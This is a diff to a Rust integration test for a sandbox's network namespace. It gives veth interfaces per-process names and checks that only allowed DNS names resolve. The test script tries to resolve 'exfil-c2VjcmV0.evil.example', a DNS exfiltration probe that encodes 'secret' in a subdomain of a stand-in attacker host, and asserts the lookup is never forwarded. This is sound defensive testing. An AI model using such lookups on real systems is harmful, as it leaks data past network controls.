@@ -73,6 +73,7 @@ threading.Event().wait()
 /// The test's "internet host": a namespace with 198.51.100.2, reached over a veth pair from 198.51.100.1.
 struct NetNs {
     name: String,
+    host_if: String,
     server: Option<Child>,
 }
 
@@ -88,38 +89,30 @@ fn ip(args: &[&str]) -> bool {
 impl NetNs {
     fn new(www: &std::path::Path) -> Self {
         let name = format!("capv-net-{}", std::process::id());
-        let host_if = "capv-veth-h";
+        // Interface names: at most 15 bytes, unique per test process.
+        let host_if = format!("cvh{}", std::process::id());
+        let ns_if = format!("cvn{}", std::process::id());
         // Leftovers of a killed earlier run.
         ip(&["netns", "del", &name]);
-        ip(&["link", "del", host_if]);
+        ip(&["link", "del", &host_if]);
         let owned = name.clone();
         let n = owned.as_str();
-        let ns = NetNs { name, server: None };
+        let ns = NetNs {
+            name,
+            host_if: host_if.clone(),
+            server: None,
+        };
+        let (host_if, ns_if) = (host_if.as_str(), ns_if.as_str());
         for step in [
             vec!["netns", "add", n],
             vec![
-                "link",
-                "add",
-                host_if,
-                "type",
-                "veth",
-                "peer",
-                "name",
-                "capv-veth-n",
+                "link", "add", host_if, "type", "veth", "peer", "name", ns_if,
             ],
-            vec!["link", "set", "capv-veth-n", "netns", n],
+            vec!["link", "set", ns_if, "netns", n],
             vec!["addr", "add", "198.51.100.1/24", "dev", host_if],
             vec!["link", "set", host_if, "up"],
-            vec![
-                "-n",
-                n,
-                "addr",
-                "add",
-                "198.51.100.2/24",
-                "dev",
-                "capv-veth-n",
-            ],
-            vec!["-n", n, "link", "set", "capv-veth-n", "up"],
+            vec!["-n", n, "addr", "add", "198.51.100.2/24", "dev", ns_if],
+            vec!["-n", n, "link", "set", ns_if, "up"],
             vec!["-n", n, "link", "set", "lo", "up"],
         ] {
             assert!(ip(&step), "ip {step:?} failed");
@@ -159,7 +152,7 @@ impl Drop for NetNs {
         }
         // Deleting the namespace deletes its end of the veth pair, and with it the host's end.
         ip(&["netns", "del", &self.name]);
-        ip(&["link", "del", "capv-veth-h"]);
+        ip(&["link", "del", &self.host_if]);
     }
 }
 
@@ -414,6 +407,8 @@ fn dns_allowed_names_resolve_disallowed_never_forwarded() {
     let script = r#"
 import socket, urllib.request as u
 print(u.urlopen("http://svc.test.example/index.html", timeout=10).read().decode().strip())
+import subprocess
+print(subprocess.run(["curl", "-sS", "-m", "10", "http://api.test.example/index.html"], capture_output=True, text=True).stdout.strip())
 for name in ("exfil-c2VjcmV0.evil.example", "test.example", "other.example"):
     try:
         socket.getaddrinfo(name, 80); print(name, "RESOLVED")
@@ -430,9 +425,10 @@ print("by address:", s.connect_ex(("198.51.100.3", 80)))
         f.ws.path(),
     );
     assert_eq!(out.code, 0, "{out}");
-    assert!(
-        out.stdout.contains("hello from the test namespace"),
-        "{out}"
+    assert_eq!(
+        out.stdout.matches("hello from the test namespace").count(),
+        2,
+        "urllib and curl by name\n{out}"
     );
     for name in [
         "exfil-c2VjcmV0.evil.example",
@@ -447,7 +443,10 @@ print("by address:", s.connect_ex(("198.51.100.3", 80)))
     );
     // Judged from outside: the upstream saw the allowed name and none of the others.
     let dns = f.log("dns.log");
-    assert!(dns.contains("svc.test.example"), "{dns}");
+    assert!(
+        dns.contains("svc.test.example") && dns.contains("api.test.example"),
+        "{dns}"
+    );
     assert!(!dns.contains("evil") && !dns.contains("other"), "{dns}");
     assert!(!dns.lines().any(|l| l.starts_with("test.example")), "{dns}");
 }
